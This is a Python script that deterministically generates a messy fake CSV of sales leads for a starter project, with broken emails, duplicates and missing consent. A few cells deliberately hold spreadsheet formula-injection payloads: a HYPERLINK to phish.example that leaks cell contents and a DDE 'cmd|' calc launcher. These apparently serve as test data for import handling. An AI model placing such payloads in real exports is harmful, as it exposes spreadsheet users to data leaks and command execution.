"""Write data/leads.csv: 300 rows of a believable, messy import for the starter project.

Run `python tools/make_leads.py` to write the file again; the same bytes come out every time.
All choices hang on hashes of the row and the column, not on a stream of random numbers: a new
column or country changes nothing elsewhere. Every address uses a domain reserved for examples.
The names and words are in lead_words.toml.
"""

from __future__ import annotations

import csv
import io
import tomllib
import unicodedata
from collections.abc import Mapping, Sequence
from datetime import UTC, datetime, timedelta
from hashlib import sha256
from itertools import count
from pathlib import Path
from typing import Any, NamedTuple

SEED = "havelock-air-2026-08"
HERE = Path(__file__).resolve().parent
TARGET = HERE.parent / "data" / "leads.csv"
WORDS = tomllib.loads((HERE / "lead_words.toml").read_text(encoding="utf-8"))
ROWS = 300
COMPANIES = 160
FIRST_DAY = datetime(2026, 8, 1, tzinfo=UTC)
DAYS = 31

SPELLINGS = str.maketrans(
    {"ä": "ae", "ö": "oe", "ü": "ue", "ß": "ss", "ø": "o", "ł": "l", "æ": "ae", "'": "", " ": "-"}
)
Row = dict[str, str]

# What is wrong with the addresses of some ordinary rows, by row; {} is the right address.
BROKEN = {
    11: "{local}.{domain}",
    47: "{local}@@{domain}",
    83: "{local}@{domain},",
    109: "a@b",
    146: "{local}@{domain}@{domain}",
    171: "{local} {local}@{domain}",
    204: "@{domain}",
    239: "{local}@{domain};info@{domain}",
}
# Single cells that something went wrong with, by ordinary row.
PATCHES: Mapping[int, Mapping[str, str]] = {
    5: {"company": '=HYPERLINK("https://phish.example/?c="&A2;"Open")'},
    19: {"time_zone": "Europe/Nowhere"},
    33: {"notes": "Met at the stand.\nWants prices by phone, not by mail."},
    52: {"last_name": "@SUM(A1:A9)", "notes": "=1+1"},
    61: {"first_name": "n/a", "last_name": "n/a"},
    75: {"company": "-", "employees": "n/a"},
    98: {"notes": "-2+3+cmd|' /C calc'!A0"},
    120: {"employees": "250-500"},
    133: {"country": "Deutschland"},
    158: {"country": "UK", "time_zone": "GMT+1"},
    187: {"compressor_kw": "90 + 75"},
    222: {"company": "n/a", "industry": "n/a", "employees": "n/a"},
}
# Ordinary rows that come in again: how the address is written the second time.
AGAIN = {
    **dict.fromkeys((3, 27), "upper"),
    **dict.fromkeys((58, 208), "title"),
    **dict.fromkeys((90, 117, 231), "padded"),
    **dict.fromkeys((150, 176), "same"),
}
NO_CONSENT = frozenset({40, 104, 165})
FREE_MAIL = dict.fromkeys(range(8, 260, 38), "freemail.example")
FREE_MAIL |= dict.fromkeys(range(27, 260, 38), "webpost.example")


class Country(NamedTuple):
    """A country with how often it comes up, the language of its words and its invented names."""

    code: str
    label: str
    weight: int
    zone: str
    words: str
    phone: str
    legal: str
    first: Sequence[str]
    last: Sequence[str]
    firms: Sequence[str]


def _country(entry: Mapping[str, Any]) -> Country:
    names = {part: entry[part].split() for part in ("first", "last", "firms")}
    return Country(**{**entry, **names})


COUNTRIES = {entry["code"]: _country(entry) for entry in WORDS["countries"]}


def number(key: str, below: int) -> int:
    """Return a number from 0 to below - 1 that depends on the key alone."""
    return int.from_bytes(sha256(f"{SEED}/{key}".encode()).digest()[:8]) % below


def chance(key: str, percent: int) -> bool:
    """Say yes in so many percent of all keys."""
    return number(key, 100) < percent


def pick(key: str, options: Sequence[str]) -> str:
    """Return one of the options."""
    return options[number(key, len(options))]


def weighted(key: str, weights: Mapping[str, int]) -> str:
    """Return one of the names, by weight."""
    left = number(key, sum(weights.values()))
    for name, weight in weights.items():
        if left < weight:
            return name
        left -= weight
    raise AssertionError("weights do not add up")


def weighted_word(key: str, table: str) -> str:
    """Return one of the names of a table in the word list, by weight."""
    return weighted(key, {name: entry["weight"] for name, entry in WORDS[table].items()})


def latin(name: str) -> str:
    """Return the name as it stands in an address."""
    name = name.rsplit("/", 1)[-1].lower().translate(SPELLINGS)
    return unicodedata.normalize("NFKD", name).encode("ascii", "ignore").decode()


class Company(NamedTuple):
    """An invented firm; all its people agree on it, though they tell different parts of it."""

    name: str
    domain: str
    country: Country
    industry: str
    employees: int
    compressor_kw: int


def companies() -> list[Company]:
    """Return the firms, each name once."""
    found: dict[str, Company] = {}
    attempt = 0
    while len(found) < COMPANIES:
        firm = _company(f"company/{attempt}")
        found.setdefault(firm.name, firm)
        attempt += 1
    return list(found.values())


def _company(key: str) -> Company:
    country = COUNTRIES[weighted(f"{key}/c", {c.code: c.weight for c in COUNTRIES.values()})]
    industry = weighted_word(f"{key}/i", "industries")
    stem = f"{pick(f'{key}/n', country.firms)} {WORDS['industries'][industry][country.words]}"
    size = _size(key)
    per_head = 0.1 if industry in ("logistics", "services") else 0.45
    power = size * per_head * (40 + number(f"{key}/kw", 120)) / 100
    return Company(
        name=f"{stem} {country.legal}",
        domain=f"{latin(stem)}.example",
        country=country,
        industry=industry,
        employees=size,
        compressor_kw=max(5, round(power / 5) * 5),
    )


def _size(key: str) -> int:
    """Return a number of employees: some too small for us, a few too large."""
    low, high = {"small": (6, 49), "middle": (50, 420), "large": (420, 3200), "huge": (5200, 9000)}[
        weighted(f"{key}/size", {"small": 12, "middle": 58, "large": 26, "huge": 4})
    ]
    exact = low + number(f"{key}/heads", high - low)
    # Two digits, then zeros: nobody counts 1,743 colleagues.
    return round(exact, min(0, 2 - len(str(exact))))


def captured(key: str) -> datetime:
    """Return when the lead came in: in August, mostly in working hours."""
    minute = 6 * 60 + number(f"{key}/minute", 13 * 60)
    return FIRST_DAY + timedelta(days=number(f"{key}/day", DAYS), minutes=minute)


def ordinary(step: int, firms: Sequence[Company], taken: set[str]) -> Row:
    """Return one lead whose address nobody has yet, with the usual gaps."""
    keys = (f"lead/{step}/{attempt}" for attempt in count())
    row = next(row for key in keys if (row := _lead(step, key, firms))["email"] not in taken)
    taken.add(row["email"])
    return row


def _lead(step: int, key: str, firms: Sequence[Company]) -> Row:
    """Return a lead as a person or a form has written it."""
    firm = firms[number(f"{key}/firm", len(firms))]
    first, last = pick(f"{key}/first", firm.country.first), pick(f"{key}/last", firm.country.last)
    source = weighted_word(f"{key}/source", "sources")
    role = weighted_word(f"{key}/role", "roles")
    local = f"{latin(first)[: 1 if chance(f'{key}/initial', 45) else None]}.{latin(last)}"
    domain = FREE_MAIL.get(step, firm.domain)
    row = {
        "email": BROKEN.get(step, "{local}@{domain}").format(local=local, domain=domain),
        "first_name": _told(f"{key}/f", 93, first.split("/")[0]),
        "last_name": _told(f"{key}/l", 93, last.split("/")[0].replace("-", " ")),
        "company": _told(f"{key}/c", 30 if step in FREE_MAIL else 90, firm.name),
        "job_title": _told(f"{key}/t", 66, WORDS["roles"][role][firm.country.words]),
        "phone": _told(f"{key}/p", 36, _phone(key, firm.country)),
        "country": _told(f"{key}/co", 90, _country_as_typed(key, firm.country)),
        "time_zone": _told(f"{key}/z", 68, firm.country.zone),
        "language": _told(f"{key}/la", 50, "de" if firm.country.words == "de" else "en"),
        "source": source,
        "industry": _told(f"{key}/i", 76, firm.industry),
        "employees": _told(f"{key}/e", 62, _headcount(key, firm.employees)),
        "compressor_kw": _told(f"{key}/k", 40, _power(key, firm.compressor_kw)),
        "role": _told(f"{key}/r", 62, role),
        "downloaded": "leak-guide"
        if chance(f"{key}/d", WORDS["sources"][source]["downloaded"])
        else "",
        "notes": _told(f"{key}/note", 17, pick(f"{key}/w", WORDS["sources"][source]["notes"])),
    }
    _stamp(row, key, consents=step not in NO_CONSENT)
    row.update(PATCHES.get(step, {}))
    return _typed(row, key)


def _told(key: str, percent: int, value: str) -> str:
    return value if chance(key, percent) else ""


def _phone(key: str, country: Country) -> str:
    digits = str(100 + number(f"{key}/digits", 900))
    return country.phone.format(digits)


def _country_as_typed(key: str, country: Country) -> str:
    return country.label if chance(f"{key}/label", 6) else country.code


def _headcount(key: str, heads: int) -> str:
    """Write a number the way people do."""
    grouped = f"{heads:,}"
    if "," in grouped:
        return pick(f"{key}/style", [grouped, grouped.replace(",", "."), str(heads)])
    if chance(f"{key}/about", 6):
        return f"ca. {heads}"
    return str(heads)


def _power(key: str, power: int) -> str:
    return f"{power} kW" if chance(f"{key}/unit", 7) else str(power)


def _stamp(row: Row, key: str, *, consents: bool) -> None:
    """Add when the lead came in and what it agreed to, if it did."""
    at = captured(key).isoformat().replace("+00:00", "Z")
    row["captured_at"] = at
    given_by = WORDS["sources"].get(row["source"], {}).get("consent", "")
    if not consents or not given_by:
        return
    both = bool(row["downloaded"]) or chance(f"{key}/to", 45)
    topics = "guides;product-news" if both else "guides"
    row["topics"] = topics
    row["consent_basis"] = "consent"
    row["consent_source"] = given_by
    row["consent_wording"] = WORDS["wordings"][topics]
    row["consent_at"] = at


def _typed(row: Row, key: str) -> Row:
    """Add what fingers and spreadsheets add: blanks at the ends, capitals, `n/a`."""
    for column in ("first_name", "company", "employees", "job_title"):
        if row[column] and chance(f"{key}/blank/{column}", 3):
            row[column] = f"  {row[column]} "
    if chance(f"{key}/caps", 4):
        row["last_name"] = row["last_name"].upper()
    if not row["compressor_kw"] and chance(f"{key}/na", 5):
        row["compressor_kw"] = "n/a"
    return row


def special(line: str) -> Row:
    """Return one of the hand-written rows with its stamps."""
    row = dict(zip(WORDS["special"]["columns"].split(), line.split("|"), strict=True))
    row["downloaded"] = "leak-guide" if row["source"] in ("website", "linkedin") else ""
    _stamp(row, f"special/{line}", consents=True)
    return row


def again(step: int, row: Row) -> Row:
    """Return the row as it comes in a second time: later, from elsewhere, with other gaps."""
    written = {
        "upper": row["email"].upper(),
        "title": row["email"].title(),
        "padded": f"  {row['email']} ",
        "same": row["email"],
    }[AGAIN[step]]
    at = (FIRST_DAY + timedelta(days=DAYS - 1, hours=9, minutes=step % 60)).isoformat()
    later = {**row, "email": written, "source": "webinar", "captured_at": at.replace("+00:00", "Z")}
    later |= {"first_name": row["first_name"].upper(), "phone": "", "notes": "second entry"}
    later |= {"job_title": "", "downloaded": ""}
    return later


def leads() -> list[Row]:
    """Return all rows in the order in which they came in."""
    firms = companies()
    by_hand = [special(line) for line in WORDS["special"]["rows"].splitlines()]
    taken: set[str] = set()
    plain = [ordinary(step, firms, taken) for step in range(ROWS - len(by_hand) - len(AGAIN))]
    rows = plain + by_hand
    rows += [again(step, plain[step]) for step in AGAIN]
    return sorted(rows, key=lambda row: (row["captured_at"], row["email"]))


def text() -> str:
    """Return the file's content."""
    out = io.StringIO()
    columns = WORDS["columns"].split()
    writer = csv.DictWriter(out, columns, restval="", lineterminator="\n")
    writer.writeheader()
    writer.writerows(leads())
    return out.getvalue()


if __name__ == "__main__":
    TARGET.parent.mkdir(exist_ok=True)
    TARGET.write_text(text(), encoding="utf-8", newline="\n")
